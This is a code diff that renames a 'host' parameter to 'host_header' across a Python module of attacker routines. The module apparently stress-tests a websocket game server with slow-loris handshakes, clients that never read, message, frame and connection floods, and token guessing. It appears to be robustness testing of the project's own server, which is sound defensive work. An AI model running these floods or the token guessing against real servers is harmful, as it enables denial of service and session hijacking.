@@ -75,20 +75,20 @@ class AttackerConnection:
             while True:
                 await self.receive_available()
 
-    async def perform_handshake_and_send_hello(self, host: str, role: str = "bot") -> None:
+    async def perform_handshake_and_send_hello(self, host_header: str, role: str = "bot") -> None:
         """Perform the websocket handshake, and send a hello (first message of the protocol) with a new name each time.
 
         role: role in the hello, `bot` or `spectator`
 
         Raises OSError or EOFError on failure.
         """
-        await self.perform_handshake(host)
+        await self.perform_handshake(host_header)
         name = f"attacker {os.getpid()} {next(attacker_number_counter)}"
         await self.send(make_message_frame(type="hello", name=name, role=role, pool=False))
 
-    async def perform_handshake(self, host: str) -> None:
+    async def perform_handshake(self, host_header: str) -> None:
         """Perform the websocket handshake. Raises EOFError if the server refuses it, OSError if the connection is lost."""
-        await self.send(make_handshake_request(host))
+        await self.send(make_handshake_request(host_header))
         answer = b""
         while b"\r\n\r\n" not in answer:
             answer += await self.receive_available()
@@ -101,36 +101,36 @@ def make_message_frame(**message_fields: object) -> bytes:
     return make_masked_frame(msgpack.packb(message_fields))
 
 
-async def attack_by_slow_loris(connection: AttackerConnection, host: str) -> None:
+async def attack_by_slow_loris(connection: AttackerConnection, host_header: str) -> None:
     """Begin a websocket handshake that never ends, or, in every second call, finish it and send no hello."""
     if next(attacker_number_counter) % 2:
-        await connection.perform_handshake(host)
+        await connection.perform_handshake(host_header)
         await connection.discard_data_until_closed()
         return
-    for byte in itertools.chain(make_handshake_request(host)[:-4], itertools.repeat(ord("a"))):
+    for byte in itertools.chain(make_handshake_request(host_header)[:-4], itertools.repeat(ord("a"))):
         await connection.send(bytes([byte]))
         await asyncio.sleep(SLOW_HANDSHAKE_BYTE_INTERVAL_SECONDS)
 
 
-async def attack_by_never_reading(connection: AttackerConnection, host: str) -> None:
+async def attack_by_never_reading(connection: AttackerConnection, host_header: str) -> None:
     """Request listings of matches as a spectator, and read nothing after the handshake."""
-    await connection.perform_handshake_and_send_hello(host, "spectator")
+    await connection.perform_handshake_and_send_hello(host_header, "spectator")
     while True:
         await connection.send(make_message_frame(type="browse"))
         await asyncio.sleep(MATCH_LIST_REQUEST_INTERVAL_SECONDS)
 
 
-async def flood_with_messages(connection: AttackerConnection, host: str) -> None:
+async def flood_with_messages(connection: AttackerConnection, host_header: str) -> None:
     """Send small messages about a match that does not exist, as fast as possible."""
-    await connection.perform_handshake_and_send_hello(host)
+    await connection.perform_handshake_and_send_hello(host_header)
     await send_repeatedly(
         connection, make_message_frame(type="ready", match="no such match") * FLOOD_FRAMES_PER_WRITE
     )
 
 
-async def flood_with_frames(connection: AttackerConnection, host: str) -> None:
+async def flood_with_frames(connection: AttackerConnection, host_header: str) -> None:
     """Send empty fragments of an endless message as fast as possible, or, in every second call, pings."""
-    await connection.perform_handshake_and_send_hello(host)
+    await connection.perform_handshake_and_send_hello(host_header)
     if next(attacker_number_counter) % 2:
         await send_repeatedly(connection, make_masked_frame(b"", 9) * FLOOD_FRAMES_PER_WRITE)
     await connection.send(make_masked_frame(b"", 2, 0))
@@ -147,14 +147,14 @@ async def send_repeatedly(connection: AttackerConnection, data: bytes) -> None:
         reading_task.cancel()
 
 
-async def flood_with_connections(connection: AttackerConnection, _host: str) -> None:
+async def flood_with_connections(connection: AttackerConnection, _host_header: str) -> None:
     """Send nothing on the open TCP connection, and wait until the server closes it."""
     await connection.discard_data_until_closed()
 
 
-async def guess_tokens(connection: AttackerConnection, host: str) -> None:
+async def guess_tokens(connection: AttackerConnection, host_header: str) -> None:
     """Perform the websocket handshake, send a hello with a guessed token, and wait for the answer."""
-    await connection.perform_handshake(host)
+    await connection.perform_handshake(host_header)
     await connection.send(
         make_message_frame(type="hello", name="victim", token=f"guess {next(attacker_number_counter)}")
     )
